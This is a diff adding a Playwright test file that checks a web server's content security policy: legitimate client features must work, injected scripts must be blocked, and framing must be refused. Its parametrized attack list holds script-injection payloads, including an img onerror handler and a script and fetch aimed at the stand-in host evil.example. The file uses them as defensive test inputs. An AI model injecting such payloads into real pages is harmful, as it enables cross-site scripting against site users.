@@ -1,0 +1,134 @@
+"""The page in a real browser: what the client needs works under the content policy, and nothing else does."""
+
+import json
+import shutil
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, Page, sync_playwright
+
+from tests.server.browser import Json
+from tests.server.served import QUICK, Served
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+pytestmark = [pytest.mark.browser, pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here")]
+
+INDEX = """<!doctype html><html><head><title>Parlour</title>
+<link rel="icon" href="data:,"><link rel="stylesheet" href="/_app/immutable/look.abc.css">
+<style>p { color: rgb(1, 2, 3) }</style></head>
+<body><div style="display: contents"><p id="words">?</p>
+<script>
+  window.inline = true;
+  import("/_app/immutable/start.abc.js").then((start) => start.begin());
+</script></div></body></html>
+"""
+START = """
+const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
+const shown = (address) => new Promise((yes) => {
+  const image = new Image();
+  image.onload = () => yes(true);
+  image.onerror = () => yes(false);
+  image.src = address;
+});
+export async function begin() {
+  const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>';
+  const worker = new Worker(blob('onmessage = (said) => postMessage(said.data + 1)', 'text/javascript'));
+  const socket = new WebSocket(`ws://${location.host}/api/page`);
+  const hello = new Promise((yes) => { socket.onmessage = (said) => yes(JSON.parse(said.data).type); });
+  const found = {
+    module: true,
+    webgl: !!document.createElement('canvas').getContext('webgl2'),
+    audio: !!new AudioContext().createOscillator(),
+    data: await shown('data:image/svg+xml,' + encodeURIComponent(svg)),
+    blob: await shown(blob(svg, 'image/svg+xml')),
+    worker: await new Promise((yes) => { worker.onmessage = (said) => yes(said.data); worker.postMessage(1); }),
+    socket: await hello,
+    fetched: (await fetch('/api/games')).status,
+    style: getComputedStyle(document.getElementById('words')).color,
+    sheet: getComputedStyle(document.body).margin,
+  };
+  document.documentElement.dataset.found = JSON.stringify(found);
+}
+"""
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    """A server with a small client, built as the real one is."""
+    built = tmp_path_factory.mktemp("pages")
+    (built / "_app" / "immutable").mkdir(parents=True)
+    (built / "index.html").write_text(INDEX)
+    (built / "_app" / "immutable" / "start.abc.js").write_text(START)
+    (built / "_app" / "immutable" / "look.abc.css").write_text("body { margin: 7px }")
+    with Served(tmp_path_factory.mktemp("served"), pages=built, **QUICK) as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=CHROMIUM,
+            args=["--no-sandbox", "--use-angle=swiftshader", "--enable-unsafe-swiftshader", "--disable-quic"],
+        )
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def page(chromium: Browser) -> Iterator[Page]:
+    page = chromium.new_page()
+    yield page
+    page.close()
+
+
+def finished(page: Page) -> Json:
+    """What the client has found out, when it is through. Waiting for a function would need what the policy forbids."""
+    page.wait_for_selector("html[data-found]", state="attached")
+    found: Json = json.loads(page.evaluate("document.documentElement.dataset.found"))
+    return found
+
+
+def test_scripts_pictures_workers_sound_and_sockets_of_the_client_work(server: Served, page: Page) -> None:
+    complaints: list[str] = []
+    page.on("console", lambda said: complaints.append(said.text) if said.type == "error" else None)
+    page.goto(f"{server.address}/match/anything")
+    assert finished(page) == {
+        "module": True,
+        "webgl": True,
+        "audio": True,
+        "data": True,
+        "blob": True,
+        "worker": 2,
+        "socket": "hello",
+        "fetched": 200,
+        "style": "rgb(1, 2, 3)",
+        "sheet": "7px",
+    }
+    assert complaints == []
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "document.body.append(Object.assign(document.createElement('script'), { text: 'window.hacked = true' }))",
+        'document.body.innerHTML = \'<img src="/x.png" onerror="window.hacked = true">\'',
+        "document.body.append(Object.assign(document.createElement('script'), { src: 'http://evil.example/x.js' }))",
+        "fetch('http://evil.example/').then(() => { window.hacked = true })",
+        "document.body.innerHTML = '<iframe src=\"http://evil.example/\"></iframe>'",
+    ],
+)
+def test_what_somebody_smuggles_into_the_page_is_stopped(server: Served, page: Page, attack: str) -> None:
+    page.goto(server.address)
+    finished(page)
+    page.evaluate("document.onsecuritypolicyviolation = () => { document.documentElement.dataset.stopped = 'yes' }")
+    page.evaluate(f"() => {{ {attack} }}")
+    page.wait_for_selector("html[data-stopped]", state="attached")
+    assert page.evaluate("window.hacked") is None
+
+
+def test_the_page_cannot_be_framed_by_another(server: Served, page: Page) -> None:
+    page.goto(server.address)
+    answer = page.request.get(server.address)
+    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
+    assert answer.headers["x-frame-options"] == "DENY"
